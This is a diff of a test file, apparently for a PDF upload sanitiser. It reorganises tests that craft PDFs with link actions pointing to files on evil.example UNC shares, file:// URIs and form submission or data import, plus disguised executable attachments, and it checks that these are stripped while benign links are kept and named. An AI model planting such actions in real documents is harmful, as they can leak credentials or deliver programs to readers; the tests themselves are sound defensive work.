@@ -48,61 +48,56 @@ describe("a form in a PDF", () => {
   });
 });
 
-describe("what a PDF opens on other computers", () => {
-  it("is removed, and what readers send and follow stays and is named", async () => {
-    const bytes = await pdf((document) => {
-      const { context } = document;
-      const link = (action: object) =>
-        context.obj({ Subtype: "Link", Rect: [0, 0, 9, 9], A: action as never });
-      const file = (path: string) => PDFString.of(path);
-      const actions = [
-        { S: "GoToR", F: file("\\\\\\\\evil.example\\\\a.pdf"), D: [0] },
-        { S: "GoToR", F: { Type: "Filespec", F: file("//evil.example/b.pdf") }, D: [0] },
-        { S: "URI", URI: file("file:///C:/Users/evil/c.pdf") },
-        { S: "SubmitForm", F: file("\\\\\\\\evil.example\\\\d") },
-        { S: "ImportData", F: file("evil.fdf") },
-        { S: "GoToR", F: file("kept.pdf"), D: [0] },
-        { S: "SubmitForm", F: { FS: "URL", F: file("https://form.example/send") } },
-      ];
-      document.getPage(0).node.set(name("Annots"), context.obj(actions.map(link)));
-    });
-    const { body } = await upload("remote.pdf", bytes);
-    expect(body.file).toMatchObject({
-      removed: expect.arrayContaining([
-        "links to files on other computers",
-        "actions that open programs or files",
-      ]),
-      kept: ["a button that sends what is entered to form.example"],
-    });
-    const { text } = await served(body);
-    expect(text).not.toContain("evil");
-    expect(text).toMatch(/kept\.pdf.*form\.example/s);
+it("what a PDF opens on other computers is removed, and what readers send and follow stays and is named", async () => {
+  const bytes = await pdf((document) => {
+    const { context } = document;
+    const link = (action: object) => context.obj({ Subtype: "Link", Rect: [0, 0, 9, 9], A: action as never });
+    const file = (path: string) => PDFString.of(path);
+    const actions = [
+      { S: "GoToR", F: file("\\\\\\\\evil.example\\\\a.pdf"), D: [0] },
+      { S: "GoToR", F: { Type: "Filespec", F: file("//evil.example/b.pdf") }, D: [0] },
+      { S: "URI", URI: file("file:///C:/Users/evil/c.pdf") },
+      { S: "SubmitForm", F: file("\\\\\\\\evil.example\\\\d") },
+      { S: "ImportData", F: file("evil.fdf") },
+      { S: "GoToR", F: file("kept.pdf"), D: [0] },
+      { S: "SubmitForm", F: { FS: "URL", F: file("https://form.example/send") } },
+    ];
+    document.getPage(0).node.set(name("Annots"), context.obj(actions.map(link)));
   });
+  const { body } = await upload("remote.pdf", bytes);
+  expect(body.file).toMatchObject({
+    removed: expect.arrayContaining([
+      "links to files on other computers",
+      "actions that open programs or files",
+    ]),
+    kept: ["a button that sends what is entered to form.example"],
+  });
+  const { text } = await served(body);
+  expect(text).not.toContain("evil");
+  expect(text).toMatch(/kept\.pdf.*form\.example/s);
 });
 
-describe("files in a PDF", () => {
-  it("are removed if they are programs, and otherwise named", async () => {
-    const attach = (files: [string, string][]) =>
-      pdf((document) => {
-        for (const [file, content] of files) void document.attach(Buffer.from(content), file);
-      });
-    const programs = await upload(
-      "a.pdf",
-      await attach([
-        ["setup.exe", "evil"],
-        ["data.csv", "MZ evil"],
-      ]),
-    );
-    expect(programs.body.file).toMatchObject({
-      removed: expect.arrayContaining(["attached programs"]),
-      kept: [],
+it("files in a PDF are removed if they are programs, and otherwise named", async () => {
+  const attach = (files: [string, string][]) =>
+    pdf((document) => {
+      for (const [file, content] of files) void document.attach(Buffer.from(content), file);
     });
-    const one = await served(programs.body);
-    expect(one.text).not.toContain("/EmbeddedFile ");
-    const data = await upload("b.pdf", await attach([["data.csv", "Ward,Taps"]]));
-    expect(data.body.file?.kept).toEqual(["attached files, with what they say of their authors"]);
-    expect((await served(data.body)).text).toContain("EmbeddedFile");
+  const programs = await upload(
+    "a.pdf",
+    await attach([
+      ["setup.exe", "evil"],
+      ["data.csv", "MZ evil"],
+    ]),
+  );
+  expect(programs.body.file).toMatchObject({
+    removed: expect.arrayContaining(["attached programs"]),
+    kept: [],
   });
+  const one = await served(programs.body);
+  expect(one.text).not.toContain("/EmbeddedFile ");
+  const data = await upload("b.pdf", await attach([["data.csv", "Ward,Taps"]]));
+  expect(data.body.file?.kept).toEqual(["attached files, with what they say of their authors"]);
+  expect((await served(data.body)).text).toContain("EmbeddedFile");
 });
 
 describe("a PDF that takes long to read", () => {
